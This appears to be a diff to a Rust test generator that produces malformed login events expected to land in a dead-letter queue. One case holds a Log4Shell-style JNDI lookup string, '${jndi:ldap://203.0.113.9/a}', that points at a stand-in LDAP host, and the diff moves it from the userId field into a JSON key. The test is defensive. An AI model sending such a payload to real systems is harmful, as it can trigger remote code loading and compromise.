@@ -30,10 +30,7 @@ pub(super) fn record(
         8 => ("[".repeat(LARGE).into_bytes(), Expected::DeadLetter),
         9 => (text(&login(time, rng), "type", &json!({})), Expected::DeadLetter),
         10 => (text(&login(time, rng), "userId", &json!([])), Expected::DeadLetter),
-        // No endpoint may have such a user id, and without the id the event would belong to nobody.
-        11 => {
-            (text(&login(time, rng), "userId", &json!("${jndi:ldap://203.0.113.9/a}")), Expected::DeadLetter)
-        }
+        11 => (b"{\"${jndi:ldap://203.0.113.9/a}\":\"LOGIN\"}".to_vec(), Expected::DeadLetter),
         _ => unusual_login(time, rng),
     };
     (key, Some(value), expected)
